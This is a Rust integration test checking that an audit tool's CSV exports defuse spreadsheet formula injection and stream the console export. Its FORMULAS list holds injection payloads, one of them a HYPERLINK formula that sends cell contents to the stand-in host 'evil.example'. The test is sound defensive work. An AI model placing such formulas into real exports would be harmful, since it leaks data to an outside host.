//! CSV exports (`mcpmux audit query --format csv` and the console's) of records whose
//! host-chosen text a spreadsheet would take for a formula: each such cell starts with `'`
//! (OWASP's advice against CSV injection), and a cell holding a carriage return is quoted. The
//! console's export is streamed, a page of records at a time.

use std::time::Duration;

use serde_json::json;

use super::reading::{admin_all, mcpmux_ok};
use crate::common::{Client, ConsoleSession, Daemon, poll_until, test_upstream};

/// Tool names a host may call, each starting with what a spreadsheet evaluates.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"help\")",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1)",
    "\tTAB=1",
    "\rCR=1",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_exports_neutralize_what_a_spreadsheet_would_evaluate() {
    let daemon = Daemon::start(&test_upstream("up", &[]));
    let host = Client::connect(&daemon.url).await;
    for name in FORMULAS {
        host.request("tools/call", json!({"name": name, "arguments": {}}))
            .await;
    }
    let admin = daemon.admin();
    let recorded = poll_until(Duration::from_secs(20), || async {
        let records = admin_all(&admin, &[("method", "tools/call".to_owned())]).await;
        FORMULAS
            .iter()
            .all(|name| records.iter().any(|r| r["target"] == *name))
    })
    .await;
    assert!(
        recorded,
        "every call is recorded with its tool name as target"
    );

    let cli = mcpmux_ok(&[
        "audit", "query", "--admin", &admin.url, "--format", "csv", "--all",
    ])
    .await;
    let console = ConsoleSession::sign_in(&admin).await;
    let export = console.get("audit/export?format=csv").await;
    assert_eq!(export.status(), 200);
    // Streamed a page at a time, never held whole: no length is known before it ends.
    assert!(
        export.headers().get("content-length").is_none(),
        "the export was built whole: {:?}",
        export.headers()
    );
    let export = export.text().await.unwrap();
    for (what, csv) in [("the CLI's CSV", cli), ("the console's CSV", export)] {
        let cells: Vec<String> = rows(&csv).into_iter().flatten().collect();
        for name in FORMULAS {
            assert!(
                cells.contains(&format!("'{name}")),
                "{what}: {name:?} is not neutralized:\n{csv}"
            );
            assert!(
                !cells.iter().any(|c| c.as_str() == name),
                "{what}: {name:?} is a cell as it is:\n{csv}"
            );
        }
        // What we write ourselves stays as it is: an error code is a number.
        assert!(
            cells.iter().any(|c| c.starts_with("-32")),
            "{what}: no error code as it is:\n{csv}"
        );
    }
}

/// The rows of CSV `text` (RFC 4180: quoted fields may hold commas, quotes and line breaks); a
/// carriage return outside quotes fails the test (a spreadsheet breaks the row there).
fn rows(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut field) = (Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                field.push('"');
                chars.next();
            }
            ('"', true) => quoted = false,
            ('"', false) if field.is_empty() => quoted = true,
            (',', false) => row.push(std::mem::take(&mut field)),
            ('\n', false) => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            ('\r', false) => panic!("a carriage return outside quotes:\n{text:?}"),
            (c, _) => field.push(c),
        }
    }
    assert!(!quoted, "an unterminated quote:\n{text}");
    rows
}
